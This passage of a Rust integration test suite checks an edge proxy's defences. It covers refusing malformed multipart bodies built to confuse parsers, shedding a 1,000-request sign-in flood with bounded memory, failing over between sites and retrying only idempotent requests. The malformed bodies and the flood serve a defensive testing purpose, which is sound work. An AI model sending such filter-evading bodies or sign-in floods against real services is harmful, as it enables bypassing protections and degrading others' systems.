            "hello\r\n--XyZ\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nx\r\n--XyZ--\r\n",
        ),
        (
            "data after the last boundary",
            form,
            "--XyZ\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nx\r\n--XyZ--\r\nhello",
        ),
        (
            "bare LF line endings",
            form,
            "--XyZ\nContent-Disposition: form-data; name=\"alt\"\n\nx\n--XyZ--\n",
        ),
        (
            "a missing semicolon",
            form,
            "--XyZ\r\nContent-Disposition: form-data name=\"alt\"\r\n\r\nx\r\n--XyZ--\r\n",
        ),
        (
            "a boundary quoted with whitespace",
            "multipart/form-data; boundary=\" XyZ\"",
            "-- XyZ\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nx\r\n-- XyZ--\r\n",
        ),
        (
            "a header folded over two lines",
            form,
            "--XyZ\r\nContent-Disposition: form-data;\r\n name=\"alt\"\r\n\r\nx\r\n--XyZ--\r\n",
        ),
        (
            "no final boundary",
            form,
            "--XyZ\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nx\r\n",
        ),
    ];
    for (what, content_type, body) in refused {
        let answer = send(content_type, body).await;
        let status = answer.status().as_u16();
        let kind = answer.headers().get("content-type").cloned();
        println!("{what}: {status}");
        assert!(matches!(status, 400 | 403), "{what}: {status}");
        assert_eq!(
            kind.as_ref().and_then(|v| v.to_str().ok()),
            Some("application/problem+json"),
            "{what}"
        );
    }
    assert_eq!(
        main.seen.load(Ordering::Relaxed),
        seen,
        "no refused form reached the upstream"
    );
}

/// The edge's admin `/status`.
async fn edge_status(edge: &EdgeProcess) -> Value {
    get(&format!("{}/status", edge.admin)).await.2
}

/// What the app may hold above idle under any flood of sign-ins: the hashing threads' buffers
/// (one per core, 19 MiB each), the queue's requests, the allocator's slack and a thousand
/// connections. Measured in this debug build: about 95 MiB when the bound came in, 165 MiB with
/// the storefront, 210 MiB with recommendations and promotion prices, 253–272 MiB once `pola
/// serve` listened with a queue of 4096 and so took all thousand connections at once instead of
/// resetting those past the standard 128 (2026-12); unbounded it was 400–520 MiB here, 6 GB in
/// production, which this ceiling still catches.
const FLOOD_CEILING_MIB: f64 = 340.0;

#[tokio::test]
async fn a_thousand_sign_ins_at_once_from_a_thousand_addresses_are_bounded_shed_with_503_and_leave_the_edge_on_dc() {
    // The real cost of a password hash (19 MiB, 2 passes), as in production.
    let pola = PolaServe::start_with(
        20,
        &[
            ("POLA_AUTH__ARGON2_MEMORY_KIB", "19456"),
            ("POLA_AUTH__ARGON2_ITERATIONS", "2"),
        ],
    )
    .await;
    let dr = Upstream::read_only("dr");
    let edge = EdgeProcess::start(&format!(
        "[site]\nstate_file = \"STATE_FILE\"\ncheck_interval_ms = 1000\nfailure_threshold = 3\n\n\
         [[pools]]\nname = \"pola\"\nprefixes = [\"/\"]\ndc = [\"127.0.0.1:{}\"]\ndr = [\"{}\"]\n",
        pola.port, dr.addr
    ))
    .await;
    let registered = client()
        .post(format!("{}/api/v1/identity/register", edge.public))
        .json(&json!({"email": "target@example.lk", "password": "the right passphrase", "name": "Target"}))
        .send()
        .await
        .expect("an answer");
    assert_eq!(registered.status(), 201);
    let deadline = Instant::now() + Duration::from_secs(10);
    while edge_status(&edge).await["sites"]["dc"]["writable"] != true {
        assert!(Instant::now() < deadline, "the edge never saw DC writable");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let idle = pola_core::testing::process_memory_mib(pola.pid(), "VmRSS");

    let flood = pola_core::testing::sign_in_flood(&edge.public, "target@example.lk", 1000).await;
    let peak = pola_core::testing::process_memory_mib(pola.pid(), "VmHWM");
    let after = pola_core::testing::process_memory_mib(pola.pid(), "VmRSS");
    println!(
        "1,000 sign-ins at once: {:?} in {:.1} s; pola serve resident {idle:.0} MiB idle, peak {peak:.0} MiB \
         (+{:.0}), {after:.0} MiB after",
        flood.answers,
        flood.took.as_secs_f64(),
        peak - idle
    );
    let failed: Vec<String> = edge
        .log()
        .lines()
        .filter(|l| l.contains("\"status\":502"))
        .take(3)
        .map(str::to_owned)
        .collect();
    assert_eq!(
        flood.answers.keys().copied().collect::<Vec<_>>(),
        [400, 503],
        "every sign-in is refused as wrong (invalid_grant) or shed: {:?}; the edge's 502s: {failed:?}",
        flood.answers
    );
    assert_eq!(flood.without_retry_after, 0, "every 503 says when to come back");
    assert!(
        peak - idle < FLOOD_CEILING_MIB,
        "resident memory grew by {:.0} MiB (ceiling {FLOOD_CEILING_MIB} MiB)",
        peak - idle
    );
    // Three more rounds of checks after the flood: a move would have happened by now.
    tokio::time::sleep(Duration::from_secs(4)).await;
    let status = edge_status(&edge).await;
    assert_eq!(status["active_site"], "dc", "a busy primary site is not a lost one: {status}");
    assert!(status["last_move"].is_null(), "{status}");
    // And the right password still works.
    let signed_in = client()
        .post(format!("{}/api/v1/identity/token", edge.public))
        .json(&json!({"grant_type": "password", "username": "target@example.lk", "password": "the right passphrase"}))
        .send()
        .await
        .expect("an answer");
    assert_eq!(signed_in.status(), 200);
}

#[tokio::test]
async fn with_dcs_app_killed_and_its_database_primary_reads_go_to_dr_and_come_back_to_dc_by_themselves() {
    let mut pola = PolaServe::start(20).await;
    let dr = Upstream::read_only("dr");
    let edge = EdgeProcess::start(&format!(
        "{SITE}\n{UNLIMITED}\n[[pools]]\nname = \"pola\"\nprefixes = [\"/\"]\ndc = [\"127.0.0.1:{}\"]\ndr = [\"{}\"]\n",
        pola.port, dr.addr
    ))
    .await;
    let url = format!("{}/api/v1/catalog/categories", edge.public);
    let served_by_dr = |body: &Value| body["upstream"] == "dr";
    assert!(!served_by_dr(&get(&url).await.2), "DC serves first");

    pola.kill();
    let killed = Instant::now();
    while !served_by_dr(&get(&url).await.2) {
        assert!(killed.elapsed() < Duration::from_secs(30), "reads never moved to DR");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let status = edge_status(&edge).await;
    assert_eq!(status["active_site"], "dr");
    assert!(
        status["last_move"]["why"]
            .as_str()
            .is_some_and(|why| why.contains("DC cannot serve")),
        "{status}"
    );

    pola.restart().await;
    let back = Instant::now();
    let (status, _, body) = loop {
        let answer = get(&url).await;
        if !served_by_dr(&answer.2) {
            break answer;
        }
        assert!(back.elapsed() < Duration::from_secs(30), "traffic never came back to DC");
        tokio::time::sleep(Duration::from_millis(20)).await;
    };
    assert_eq!(status, 200, "{body}");
    println!("DC's app back → traffic on DC after {} ms", back.elapsed().as_millis());
    let status = edge_status(&edge).await;
    assert_eq!(status["active_site"], "dc");
    assert!(
        status["last_move"]["why"]
            .as_str()
            .is_some_and(|why| why.contains("DC takes writes and DR does not")),
        "{status}"
    );
    let metrics = edge.metrics().await;
    assert!(metrics.contains("edge_site_writable{site=\"dr\"} 0"), "{metrics}");
}

/// A member that takes every request whole and dies before answering it (it closes the
/// connection, as a process killed with the request in flight does); its readiness check passes.
struct Dying {
    addr: SocketAddr,
    /// Requests it took (other than checks).
    took: Arc<AtomicU64>,
}

impl Dying {
    fn start() -> Self {
        use std::io::{Read, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
        let addr = listener.local_addr().expect("an address");
        let took = Arc::new(AtomicU64::new(0));
        let counted = took.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { return };
                let counted = counted.clone();
                std::thread::spawn(move || {
                    let mut request = Vec::new();
                    let mut buffer = [0u8; 4096];
                    // Read the head and whatever body came with it.
                    while let Ok(n @ 1..) = stream.read(&mut buffer) {
                        request.extend_from_slice(&buffer[..n]);
                        let text = String::from_utf8_lossy(&request);
                        if let Some(end) = text.find("\r\n\r\n") {
                            let length = text[..end]
                                .lines()
                                .find_map(|l| {
                                    l.to_ascii_lowercase()
                                        .strip_prefix("content-length:")
                                        .map(|v| v.trim().to_owned())
                                })
                                .and_then(|v| v.parse::<usize>().ok())
                                .unwrap_or(0);
                            if request.len() >= end + 4 + length {
                                break;
                            }
                        }
                    }
                    if String::from_utf8_lossy(&request).starts_with("GET /readyz ") {
                        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 5\r\nconnection: close\r\n\r\nready");
                    } else if !request.is_empty() {
                        counted.fetch_add(1, Ordering::Relaxed);
                    }
                    // Dropped: the connection closes with no answer.
                });
            }
        });
        Self { addr, took }
    }
}

#[tokio::test]
async fn a_member_dying_before_it_answers_is_retried_elsewhere_only_when_a_second_try_is_safe() {
    let dying = Dying::start();
    let good = Upstream::start("good");
    let edge = EdgeProcess::start(&format!(
        "{SITE}\n{UNLIMITED}\n[[pools]]\nname = \"main\"\nprefixes = [\"/\"]\ndc = [\"{}\", \"{}\"]\n",
        dying.addr, good.addr
    ))
    .await;
    let http = client();
    let deadline = Instant::now() + Duration::from_secs(10);
    while edge_status(&edge).await["pools"][0]["members"]
        .as_array()
        .is_none_or(|m| m.iter().any(|m| m["healthy"] != true))
    {
        assert!(Instant::now() < deadline, "both members never became healthy");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let mut answers = std::collections::BTreeMap::<(&str, u16), u64>::new();
    for i in 0..10 {
        let key = format!("order-attempt-{i}");
        let requests = [
            // Not a catalogue read: the micro-cache would answer those.
            ("GET", http.get(format!("{}/api/v1/steady", edge.public))),
            (
                "keyed POST",
                http.post(format!("{}/api/v1/orders", edge.public))
                    .header("idempotency-key", &key)
                    .json(&json!({"lines": []})),
            ),
            (
                "plain POST",
                http.post(format!("{}/api/v1/cart/lines", edge.public))
                    .json(&json!({"quantity": 1})),
            ),
            (
                "keyed POST elsewhere",
                http.post(format!("{}/api/v1/cart/lines", edge.public))
                    .header("idempotency-key", &key)
                    .json(&json!({"quantity": 1})),
            ),
        ];
        for (what, request) in requests {
            let response = request.send().await.expect("an answer");
            *answers.entry((what, response.status().as_u16())).or_default() += 1;
        }
    }
    let took = dying.took.load(Ordering::Relaxed);
    println!("answers {answers:?}; the dying member took {took} requests");
    assert_eq!(answers.get(&("GET", 200)), Some(&10), "{answers:?}");
    assert_eq!(answers.get(&("keyed POST", 200)), Some(&10), "{answers:?}");
    // Sent once, to whichever member: where that was the dying one, the client hears so.
    let failed = |what| answers.get(&(what, 502)).copied().unwrap_or(0);
    for what in ["plain POST", "keyed POST elsewhere"] {
        assert_eq!(
            answers.get(&(what, 200)).copied().unwrap_or(0) + failed(what),
            10,
            "{answers:?}"
        );
    }
    let unsafe_failed = failed("plain POST") + failed("keyed POST elsewhere");
    assert!(unsafe_failed > 0, "round robin sent some to the dying member: {answers:?}");
    // Every POST that failed reached only the dying member: none was done twice.
    let good_posts = good.seen.load(Ordering::Relaxed) - 10 - 10;
    assert_eq!(
        good_posts + unsafe_failed,
        20,
        "{answers:?}, {good_posts} other POSTs reached the good member"
    );
}

#[tokio::test]
async fn when_no_member_of_the_active_site_can_be_reached_the_answer_is_503_with_retry_after() {
    let nobody = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    let addr = nobody.local_addr().expect("an address");
    drop(nobody);
    let edge = EdgeProcess::start(&format!(
        "{SITE}\n[[pools]]\nname = \"main\"\nprefixes = [\"/\"]\ndc = [\"{addr}\"]\n"
    ))
    .await;
    for request in [
        client().get(format!("{}/api/v1/catalog/products", edge.public)),
        client()
            .post(format!("{}/api/v1/cart/lines", edge.public))
            .json(&json!({"quantity": 1})),
    ] {
        let response = request.send().await.expect("an answer");
        assert_eq!(response.status(), 503);
        assert_eq!(response.headers()["retry-after"], "1");
        assert_security_headers("503", response.headers());
    }
}
